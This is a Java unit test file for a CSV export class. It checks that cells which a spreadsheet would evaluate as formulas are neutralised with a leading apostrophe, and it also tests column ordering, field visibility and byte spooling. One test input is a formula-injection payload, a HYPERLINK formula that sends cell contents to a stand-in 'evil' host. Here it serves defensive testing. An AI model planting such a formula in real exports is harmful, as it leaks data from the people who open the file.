package io.plinth.platform.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.plinth.platform.error.ProblemException;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvExportTest {
  private record Row(Long id, String name, BigDecimal fee, LocalDate day, List<String> tags) {}

  private static final Set<String> ALL = Set.of("id", "name", "fee", "day", "tags");

  private static String text(CsvExport<?> export) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    export.writeTo(out);
    return out.toString(StandardCharsets.UTF_8);
  }

  private static CsvExport<Row> export(String fields, Set<String> visible, Row... rows) {
    return CsvExport.of(Row.class, fields, visible, consumer -> List.of(rows).forEach(consumer));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "＝1", "＋1", "－1", "＠x"})
  void neutralisesWhatASpreadsheetWouldCompute(String text) {
    assertThat(CsvText.of(text)).isEqualTo("'" + text);
  }

  /** To be read where cells end at a semicolon, and with quotes doubled as they are in the file. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "x;=HYPERLINK(\"http://evil/?\"&A1);y | x;'=HYPERLINK(\"http://evil/?\"&A1);y",
        "x;@a;+b;-c;=d | x;'@a;'+b;'-c;'=d",
        "x;\"=1+1\" | x;\"'=1+1\"",
        "=a;=b | '=a;'=b",
        "x;\uff1da | x;'\uff1da",
        "a;b; c - d;1-2 | a;b; c - d;1-2"
      })
  void neutralisesWhatBeginsACellForAnotherReader(String text, String expected) {
    assertThat(CsvText.of(text)).isEqualTo(expected);
    assertThat(CsvText.of(text.replace(';', '\n'))).isEqualTo(expected.replace(';', '\n'));
    assertThat(CsvText.of(text.replace(';', '\t'))).isEqualTo(expected.replace(';', '\t'));
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "Acme", "a=b", "1-2", "'=x", " =x", "ü"})
  void leavesOtherTextsAlone(String text) {
    assertThat(CsvText.of(text)).isEqualTo(text);
  }

  @Test
  void writesNumbersDatesAndListsAsMachinesReadThem() {
    assertThat(CsvText.of(new BigDecimal("-1234.50"))).isEqualTo("-1234.50");
    assertThat(CsvText.of(new BigDecimal("1E+6"))).isEqualTo("1000000");
    assertThat(CsvText.of(-7L)).isEqualTo("-7");
    assertThat(CsvText.of(true)).isEqualTo("true");
    assertThat(CsvText.of(LocalDate.of(2026, 3, 1))).isEqualTo("2026-03-01");
    assertThat(CsvText.of(Instant.EPOCH)).isEqualTo("1970-01-01T00:00:00Z");
    assertThat(CsvText.of(List.of("=a", "b"))).isEqualTo("'=a, b");
    assertThat(CsvText.of(null)).isEmpty();
  }

  @Test
  void writesOneColumnForEachVisibleField() throws IOException {
    Row row = new Row(7L, "=A, \"B\"\nC", new BigDecimal("1.00"), null, List.of());
    assertThat(text(export(null, Set.of("id", "name", "day"), row)))
        .isEqualTo("id,name,day\r\n7,\"'=A, \"\"B\"\"\nC\",\r\n");
  }

  @Test
  void keepsTheOrderOfTheFieldsAskedFor() throws IOException {
    Row row = new Row(7L, "A", new BigDecimal("1.00"), LocalDate.of(2026, 1, 2), List.of("x"));
    assertThat(text(export("day,fee,id", ALL, row)))
        .isEqualTo("day,fee,id\r\n2026-01-02,1.00,7\r\n");
  }

  @Test
  void refusesAFieldThatIsNotVisible() {
    assertThatThrownBy(() -> export("fee", Set.of("id")))
        .isInstanceOf(ProblemException.class)
        .hasMessageContaining("\"fee\" is not a field");
  }

  @Test
  void writesAHeadWithoutRows() throws IOException {
    assertThat(text(export(null, Set.of("id")))).isEqualTo("id\r\n");
  }

  @Test
  void leavesOutColumnsThatAreNotShown() throws IOException {
    CsvExport<String> export =
        CsvExport.of(List.of("x")).column("Name", s -> s).column(false, "Fee", s -> 1);
    assertThat(text(export)).isEqualTo("Name\r\nx\r\n");
  }

  @Test
  void spoolsFewAndManyBytesAlike() throws IOException {
    for (int size : new int[] {0, 10, 1 << 20, (1 << 20) + 1, 3_000_000}) {
      byte[] bytes = new byte[size];
      for (int i = 0; i < size; i++) {
        bytes[i] = (byte) (i * 31);
      }
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      try (Spool spool = new Spool()) {
        for (int at = 0; at < size; at += 7_000) {
          spool.write(bytes, at, Math.min(7_000, size - at));
        }
        spool.copyTo(out);
      }
      assertThat(out.toByteArray()).isEqualTo(bytes);
    }
  }
}
